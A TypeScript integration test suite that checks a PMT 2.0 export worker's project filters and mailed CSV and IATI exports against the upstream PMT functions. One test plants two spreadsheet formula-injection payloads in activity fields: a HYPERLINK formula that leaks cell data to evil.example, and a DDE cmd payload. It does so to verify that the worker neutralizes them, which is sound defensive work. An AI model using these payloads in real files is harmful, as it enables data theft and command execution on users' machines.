/**
 * PMT 2.0 compatibility: PMT 2.0.8.51's own schema, functions and codelists
 * (upstream, unchanged) in a PostgreSQL 15 with PostGIS, generated data, then
 * `pmt-worker migrate`. For many filter combinations, our selection must
 * equal PMT's pmt_filter_projects, and the CSV the worker mails must hold the
 * records PMT's pmt_filter_csv writes (its bugs fixed: upstream.ts), with no
 * failed job. The differences we allow are named in their own tests.
 */
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import pg from "pg";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createPool, type Pool } from "../../src/db/pool.js";
import type { WorkerHandle } from "../../src/worker/runner.js";
import { ROOT, runCli } from "../harness/cli.js";
import { iatiSchemaErrors } from "../harness/iati.js";
import { compatUnavailable, startPostgisCluster, type PostgisCluster } from "../harness/postgis.js";
import { SmtpSink } from "../harness/smtp.js";
import { until } from "../harness/wait.js";
import { startTestWorker } from "../harness/worker.js";
import { neutralizeFormula } from "../../src/exports/csv.js";
import { parseCsv } from "../exports/csv-parse.js";
import { createUpstreamCsv, loadUpstream } from "./upstream.js";

const unavailable = compatUnavailable();
if (unavailable) {
  if (process.env.PMT_COMPAT_REQUIRED === "1") throw new Error(`PMT 2.0 compatibility suite cannot run (PMT_COMPAT_REQUIRED=1): ${unavailable}`);
  console.log(`PMT 2.0 compatibility suite skipped: ${unavailable}`);
}

const ACTIVITIES = 400;

type Args = [classes: string, orgs: string, unassigned: string, start: string | null, end: string | null];
interface Combo {
  name: string;
  args: Args;
}

let cluster: PostgisCluster;
let pool: Pool;
let url: string;
let outDir: string;
let combos: Combo[];
let smtp: SmtpSink;
let worker: WorkerHandle | undefined;

/** Ids of the classifications the generator uses, by taxonomy name and code (name for data groups). */
async function terms(): Promise<(taxonomy: string, key: string) => number> {
  const { rows } = await pool.query<{ taxonomy: string; key: string; id: number }>(
    `select t.name as taxonomy, coalesce(c.code, c.name) as key, min(c.classification_id) as id
     from public.classification c join public.taxonomy t on t.taxonomy_id = c.taxonomy_id group by 1, 2`,
  );
  const map = new Map(rows.map((r) => [`${r.taxonomy}/${r.key}`, r.id]));
  return (taxonomy, key) => {
    const id = map.get(`${taxonomy}/${key}`);
    if (id === undefined) throw new Error(`no classification ${taxonomy}/${key}`);
    return id;
  };
}

async function taxonomyId(name: string): Promise<number> {
  return (await pool.query("select min(taxonomy_id) as id from public.taxonomy where name = $1", [name])).rows[0].id;
}

/** A deterministic PRNG (mulberry32), so the random combinations are the same every run. */
function prng(seed: number): () => number {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

async function buildCombos(): Promise<Combo[]> {
  const id = await terms();
  const sector = (code: string) => id("Sector", code);
  const country = (code: string) => id("Country", code);
  const tax = {
    sector: await taxonomyId("Sector"),
    country: await taxonomyId("Country"),
    status: await taxonomyId("Activity Status"),
    group: await taxonomyId("Data Group"),
    role: await taxonomyId("Organisation Role"),
  };
  const o0 = (await pool.query("select min(organization_id) - 1 as o from public.organization")).rows[0].o as number;
  const org = (...n: number[]) => n.map((x) => o0 + x).join(",");
  const list = (...ids: number[]) => ids.join(",");
  const hand: Combo[] = [
    { name: "no filter", args: ["", "", "", null, null] },
    { name: "one sector", args: [list(sector("11110")), "", "", null, null] },
    { name: "two sectors", args: [list(sector("11110"), sector("12220")), "", "", null, null] },
    { name: "sector and country", args: [list(sector("12220"), country("TZ")), "", "", null, null] },
    { name: "country", args: [list(country("NP")), "", "", null, null] },
    { name: "two countries", args: [list(country("TZ"), country("KE")), "", "", null, null] },
    { name: "data group", args: [list(id("Data Group", "World Bank")), "", "", null, null] },
    { name: "data group and sector", args: [list(id("Data Group", "AGRA"), sector("31161")), "", "", null, null] },
    { name: "activity status", args: [list(id("Activity Status", "2")), "", "", null, null] },
    { name: "participation role", args: [list(id("Organisation Role", "Funding")), "", "", null, null] },
    { name: "organization type", args: [list(id("Organisation Type", "10"), id("Organisation Type", "60")), "", "", null, null] },
    { name: "location-level sector with a country", args: [list(sector("41010"), country("MW")), "", "", null, null] },
    { name: "unassigned Sector", args: ["", "", String(tax.sector), null, null] },
    { name: "unassigned Country", args: ["", "", String(tax.country), null, null] },
    { name: "unassigned Country and Activity Status", args: ["", "", list(tax.country, tax.status), null, null] },
    { name: "country plus unassigned Sector", args: [list(country("TZ")), "", String(tax.sector), null, null] },
    { name: "unassigned Data Group", args: ["", "", String(tax.group), null, null] },
    { name: "unassigned Organisation Role", args: ["", "", String(tax.role), null, null] },
    { name: "one organization", args: ["", org(1), "", null, null] },
    { name: "three organizations", args: ["", org(2, 5, 7), "", null, null] },
    { name: "organizations and sector", args: [list(sector("11220")), org(3, 8), "", null, null] },
    { name: "dates on the generator's bounds (strict)", args: ["", "", "", "2010-01-01", "2012-12-31"] },
    { name: "start date on the bound", args: ["", "", "", "2010-01-01", "2013-01-01"] },
    { name: "end date on the bound", args: ["", "", "", "2009-12-31", "2012-12-31"] },
    { name: "dates a day wider", args: ["", "", "", "2009-12-31", "2013-01-01"] },
    { name: "start date alone", args: ["", "", "", "2010-01-01", null] },
    { name: "end date alone", args: ["", "", "", null, "2012-12-31"] },
    { name: "dates, country and unassigned status", args: [list(country("ET")), "", String(tax.status), "2009-01-01", "2014-01-01"] },
    {
      name: "everything at once",
      args: [list(id("Data Group", "BMGF"), sector("14030"), sector("15110")), org(4, 9), String(tax.country), "2009-06-01", "2016-01-01"],
    },
    { name: "nothing matches", args: [list(country("BO"), sector("11110")), org(11), "", "2009-01-01", "2009-02-01"] },
  ];
  // Random combinations of the same ingredients.
  const random = prng(20140521);
  const pick = <T>(items: T[], n: number) => Array.from({ length: n }, () => items[Math.floor(random() * items.length)]!);
  const pool_ = {
    classes: [
      ...["11110", "11220", "12220", "14030", "15110", "31110", "31161", "41010"].map(sector),
      ...["TZ", "NP", "BO", "MW", "ET", "KE"].map(country),
      ...["World Bank", "AGRA", "BMGF", "Tanzania AIM"].map((n) => id("Data Group", n)),
      ...["1", "2", "3", "4", "6"].map((c) => id("Activity Status", c)),
      ...["Accountable", "Extending", "Funding", "Implementing"].map((c) => id("Organisation Role", c)),
      ...["10", "21", "40", "60"].map((c) => id("Organisation Type", c)),
    ],
    taxonomies: [tax.sector, tax.country, tax.status, tax.group, tax.role],
    dates: [
      ["2009-01-01", "2011-01-01"],
      ["2010-01-01", "2012-12-31"],
      ["2009-06-15", "2015-06-15"],
      ["2011-01-01", "2020-01-01"],
    ] as const,
  };
  for (let i = 0; i < 50; i++) {
    const classes = [...new Set(pick(pool_.classes, Math.floor(random() * 4)))];
    const orgs = [...new Set(pick([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11], random() < 0.35 ? 1 + Math.floor(random() * 3) : 0))];
    const unassigned = [...new Set(pick(pool_.taxonomies, random() < 0.3 ? 1 + Math.floor(random() * 2) : 0))];
    const dates = random() < 0.35 ? pick([...pool_.dates], 1)[0]! : [null, null];
    hand.push({ name: `random ${i + 1}`, args: [list(...classes), org(...orgs), list(...unassigned), dates[0], dates[1]] });
  }
  return hand;
}

beforeAll(async () => {
  if (unavailable) return;
  cluster = await startPostgisCluster();
  const admin = new pg.Client({ connectionString: cluster.adminUrl });
  await admin.connect();
  await admin.query("create database pmt_compat");
  await admin.end();
  url = cluster.adminUrl.replace(/\/postgres$/, "/pmt_compat");
  // PMT's own schema and calls, with its default search_path (as PMT's application has).
  pool = createPool(url, { max: 4, applicationName: "pmt-worker compat test", safeSearchPath: false });
  await loadUpstream(pool, url);
  await pool.query(fs.readFileSync(path.join(ROOT, "sql/pmt_demo_data.sql"), "utf8"));
  await pool.query(`set client_min_messages = warning; select pmt_demo_seed(${ACTIVITIES}); select refresh_taxonomy_lookup()`);
  const migrated = await runCli(["migrate"], { DATABASE_URL: url, LOG_LEVEL: "warn" });
  expect(migrated.stderr).toBe("");
  expect(migrated.code).toBe(0);
  outDir = fs.mkdtempSync(path.join(os.tmpdir(), "pmt-compat-out-"));
  fs.chmodSync(outDir, 0o777); // the original writes with the server's COPY, as the server's user
  await createUpstreamCsv(pool, outDir);
  combos = await buildCombos();
  smtp = await SmtpSink.start();
}, 240_000);

afterAll(async () => {
  await worker?.stop();
  await smtp?.down();
  await pool?.end();
  await cluster?.stop();
  if (outDir) fs.rmSync(outDir, { recursive: true, force: true });
});

/** PMT's parsed CSV as ours writes it with the default EXPORT_CSV_FORMULA_PREFIX (a deliberate difference). */
function protect(records: string[][]): string[][] {
  return records.map((r) => r.map((cell) => neutralizeFormula(cell, "'")));
}

/** The filters of ours, as pmt_filter_csv builds them. */
function ourSelectionSql(): string {
  return `select project_id, string_agg(activity_id::text, ',' order by activity_id) as a_ids
          from pmt_jobs.filter_activities(pmt_jobs.check_filters(jsonb_build_object(
            'classification_ids', to_jsonb(pmt_jobs.parse_ids('c', $1)), 'organization_ids', to_jsonb(pmt_jobs.parse_ids('o', $2)),
            'unassigned_tax_ids', to_jsonb(pmt_jobs.parse_ids('u', $3)), 'start_date', $4::date, 'end_date', $5::date)))
          group by project_id order by project_id`;
}

async function selections(args: Args): Promise<{ pmt: string[]; ours: string[] }> {
  const pmt = await pool.query("select p_id, a_ids from public.pmt_filter_projects($1, $2, $3, $4, $5) order by p_id", args);
  const ours = await pool.query(ourSelectionSql(), args);
  return { pmt: pmt.rows.map((r) => `${r.p_id}:${r.a_ids}`), ours: ours.rows.map((r) => `${r.project_id}:${r.a_ids}`) };
}

describe.skipIf(!!unavailable)("PMT 2.0.8.51, loaded unchanged", () => {
  it("loaded: PMT's codelists, its Organisation Role words, generated data in its lookups", async () => {
    const { rows } = await pool.query(`
      select (select pmt_version from (select (pmt_version()).version as pmt_version) v) as version,
             (select string_agg(code, ',' order by code) from classification c join taxonomy t using (taxonomy_id) where t.name = 'Organisation Role') as roles,
             (select count(*)::int from classification c join taxonomy t using (taxonomy_id) where t.name = 'Sector') as sectors,
             (select count(distinct activity_id)::int from taxonomy_lookup) as in_lookup,
             (select count(*)::int from activity) as activities`);
    expect(rows[0]).toMatchObject({ version: "2.0.8.51", roles: "Accountable,Extending,Funding,Implementing", activities: ACTIVITIES });
    expect(rows[0].sectors).toBeGreaterThan(190);
    expect(rows[0].in_lookup).toBeGreaterThan(ACTIVITIES / 2);
    expect(rows[0].in_lookup).toBeLessThan(ACTIVITIES);
  });

  it("selects exactly what PMT's pmt_filter_projects selects, in its order, for every combination", async () => {
    const differ: string[] = [];
    let nonEmpty = 0;
    for (const combo of combos) {
      const { pmt, ours } = await selections(combo.args);
      if (JSON.stringify(pmt) !== JSON.stringify(ours))
        differ.push(`${combo.name} ${JSON.stringify(combo.args)}: PMT ${pmt.join(" ")} / ours ${ours.join(" ")}`);
      if (pmt.length) nonEmpty++;
    }
    expect(differ).toEqual([]);
    expect(nonEmpty).toBeGreaterThan(combos.length / 2); // the combinations select something, mostly
  });

  it("mails, for every combination, the CSV records PMT's pmt_filter_csv writes, and valid IATI; no job fails", async () => {
    worker = await startTestWorker(url, {
      env: { SMTP_URL: smtp.url, EXPORT_DISCLAIMER: "Disclaimer: TEXT", WORKER_CONCURRENCY: "4", LOG_LEVEL: "warn" },
    });
    await pool.query("set client_min_messages = warning");
    const expected: { combo: Combo; i: number; pmt: boolean }[] = [];
    for (const [i, combo] of combos.entries()) {
      const email = `csv-${i}@example.org`;
      const pmt = (await pool.query("select upstream.pmt_filter_csv($1, $2, $3, $4, $5, $6) as ok", [...combo.args, email])).rows[0].ok;
      const ours = (await pool.query("select pmt_filter_csv($1, $2, $3, $4, $5, $6) as ok", [...combo.args, email])).rows[0].ok;
      const iati = (await pool.query("select pmt_filter_iati($1, $2, $3, $4, $5, $6) as ok", [...combo.args, `iati-${i}@example.org`])).rows[0].ok;
      expect({ combo: combo.name, ours, iati }).toEqual({ combo: combo.name, ours: pmt, iati: pmt });
      expected.push({ combo, i, pmt });
    }
    const sent = expected.filter((e) => e.pmt).length * 2;
    expect(sent).toBeGreaterThan(combos.length);
    await smtp.waitForMessages(sent, 180_000);
    const states = await until(
      async () => {
        const { rows } = await pool.query("select status, count(*)::int as n from pmt_jobs.export_request group by status");
        const by = Object.fromEntries(rows.map((r) => [r.status, r.n]));
        return by.sent === sent || by.failed ? by : undefined;
      },
      "every export to be sent",
      180_000,
    );
    expect(states).toEqual({ sent });
    // every attempt finished (a request is marked sent just before its job completes), none otherwise than succeeded
    const runs = await until(async () => {
      const { rows } = await pool.query("select status, count(*)::int as n from pmt_jobs.job_run where task = 'pmt_jobs.export' group by status");
      return rows.some((r) => r.status === "running") ? undefined : Object.fromEntries(rows.map((r) => [r.status, r.n]));
    }, "every export attempt to finish");
    expect(runs).toEqual({ succeeded: sent });

    const mailTo = (address: string) => {
      const found = smtp.messages.filter((m) => (m.to as { text: string }).text === address);
      expect(found, address).toHaveLength(1);
      return found[0]!.attachments[0]!.content.toString("utf8");
    };
    let validated = 0;
    for (const { combo, i, pmt } of expected) {
      if (!pmt) continue;
      // PMT's records as they read with the deliberate CSV-injection prefix (EXPORT_CSV_FORMULA_PREFIX, on by default).
      const original = protect(parseCsv(fs.readFileSync(path.join(outDir, `csv-${i}@example.org_pmt_compat.csv`), "utf8"), { lf: true }));
      const ours = parseCsv(mailTo(`csv-${i}@example.org`));
      expect({ combo: combo.name, records: ours }).toEqual({ combo: combo.name, records: original });

      const xml = mailTo(`iati-${i}@example.org`);
      const activities = original.filter((r) => r[0] === "" && /^\d+$/.test(r[1]!)).length - original.filter((r) => r[0] === "Project Data").length;
      expect((xml.match(/<iati-activity /g) ?? []).length, combo.name).toBe(activities);
      if (i < 6) {
        const errors = await iatiSchemaErrors(xml);
        if (errors) {
          expect(errors, combo.name).toEqual([]);
          validated++;
        }
      }
    }
    const everything = mailTo("iati-0@example.org");
    expect(everything).toMatch(/<participating-org role="1">/); // Funding
    expect(everything).toMatch(/<participating-org role="4">/); // Implementing
    expect(everything).toMatch(/<sector vocabulary="1" code="\d{5}">/);
    expect(everything).toMatch(/<recipient-country code="(TZ|NP|BO|MW|ET|KE)"\/>/);
    expect(validated === 0 || validated >= 3).toBe(true);
  }, 400_000);

  describe("deliberate differences", () => {
    async function pmtExports(args: Args): Promise<boolean> {
      await pool.query("set client_min_messages = warning");
      return (await pool.query("select upstream.pmt_filter_csv($1, $2, $3, $4, $5, 'diff@example.org') as ok", args)).rows[0].ok;
    }

    it.each([
      ["an inactive classification (PMT drops it and exports everything)", "inactive", "classification_ids: the classification with the id"],
      ["an unknown classification (PMT exports everything)", "unknown", "classification_ids: no classification has the id 987654"],
      ["an inactive organization (PMT exports its activities)", "org", "organization_ids: the organization with the id"],
    ])("bad input raises 22023 where PMT exported: %s", async (_name, kind, message) => {
      const retired = (await pool.query("select classification_id as id from public.classification where code = '99999'")).rows[0].id;
      const inactiveOrg = (await pool.query("select organization_id as id from public.organization where not active")).rows[0].id;
      const args: Args =
        kind === "inactive"
          ? [String(retired), "", "", null, null]
          : kind === "unknown"
            ? ["987654", "", "", null, null]
            : ["", String(inactiveOrg), "", null, null];
      expect(await pmtExports(args)).toBe(true);
      await expect(pool.query("select pmt_filter_csv($1, $2, $3, $4, $5, 'diff@example.org')", args)).rejects.toMatchObject({
        code: "22023",
        message: expect.stringContaining(message),
      });
    });

    it("reversed dates raise 22023 where PMT silently exported nothing", async () => {
      expect(await pmtExports(["", "", "", "2014-01-01", "2010-01-01"])).toBe(false);
      await expect(pool.query("select pmt_filter_csv('', '', '', '2014-01-01', '2010-01-01', 'diff@example.org')")).rejects.toMatchObject({
        code: "22023",
        message: "end_date: 2010-01-01 is before start_date 2014-01-01",
      });
    });

    it("puts a ' before cells a spreadsheet would run as formulas, where PMT wrote them as they were", async () => {
      const { rows } = await pool.query("select min(activity_id) as id from pmt_jobs.filter_activities(pmt_jobs.check_filters('{}'))");
      const id = rows[0].id as number;
      const before = (await pool.query("select title, description from public.activity where activity_id = $1", [id])).rows[0];
      const title = `=HYPERLINK("http://evil.example/?"&A1,"Details")`;
      const description = "-2+3+cmd|' /C calc'!A0";
      await pool.query("update public.activity set title = $2, description = $3 where activity_id = $1", [id, title, description]);
      try {
        const email = "formula@example.org";
        expect((await pool.query("select upstream.pmt_filter_csv('', '', '', null, null, $1) as ok", [email])).rows[0].ok).toBe(true);
        expect((await pool.query("select pmt_filter_csv('', '', '', null, null, $1) as ok", [email])).rows[0].ok).toBe(true);
        worker ??= await startTestWorker(url, { env: { SMTP_URL: smtp.url, LOG_LEVEL: "warn" } });
        const mail = await until(
          async () => smtp.messages.find((m) => (m.to as { text: string }).text === email),
          "the export with formulas to be mailed",
          120_000,
        );
        const record = (records: string[][]) => records.find((r) => r[1] === String(id) && r[3]!.includes("cmd|")) ?? [];
        const pmt = record(parseCsv(fs.readFileSync(path.join(outDir, `${email}_pmt_compat.csv`), "utf8"), { lf: true }));
        const ours = record(parseCsv(mail.attachments[0]!.content.toString("utf8")));
        expect(pmt.slice(2, 4)).toEqual([title, description]);
        expect(ours.slice(2, 4)).toEqual([`'${title}`, `'${description}`]);
        expect(ours.slice(4)).toEqual(pmt.slice(4)); // coordinates, budgets and dates with a minus are data: unchanged
      } finally {
        await pool.query("update public.activity set title = $2, description = $3 where activity_id = $1", [id, before.title, before.description]);
      }
    });

    it("reads the live tables where PMT reads its lookups as last refreshed", async () => {
      const { rows } = await pool.query("select min(activity_id) as id from public.activity where active");
      const id = rows[0].id as number;
      await pool.query("update public.activity set active = false where activity_id = $1", [id]);
      try {
        const { pmt, ours } = await selections(["", "", "", null, null]);
        expect(pmt.join(" ")).toMatch(new RegExp(`\\b${id}\\b`)); // still in PMT's stale lookup
        expect(ours.join(" ")).not.toMatch(new RegExp(`(:|,)${id}(,|$)`));
        await pool.query("select refresh_taxonomy_lookup()");
        const after = await selections(["", "", "", null, null]);
        expect(after.ours).toEqual(after.pmt);
      } finally {
        await pool.query("update public.activity set active = true where activity_id = $1", [id]);
        await pool.query("select refresh_taxonomy_lookup()");
      }
    });
  });

  it("works on a later 2.0.x database that adds columns (BMGF's city_village, opportunity_id)", async () => {
    await pool.query(`alter table public.activity add column if not exists city_village character varying;
                      alter table public.activity add column if not exists opportunity_id character varying;
                      alter table public.project add column if not exists opportunity_id character varying;
                      update public.activity set city_village = 'Village ' || activity_id`);
    const migrated = await runCli(["migrate"], { DATABASE_URL: url, LOG_LEVEL: "warn" });
    expect(migrated.code).toBe(0);
    const { pmt, ours } = await selections(combos[3]!.args);
    expect(ours).toEqual(pmt);
    const { rows } = await pool.query("select count(*)::int as n from pmt_jobs.export_rows(pmt_jobs.check_filters('{}'))");
    expect(rows[0].n).toBeGreaterThan(0);
  });
});
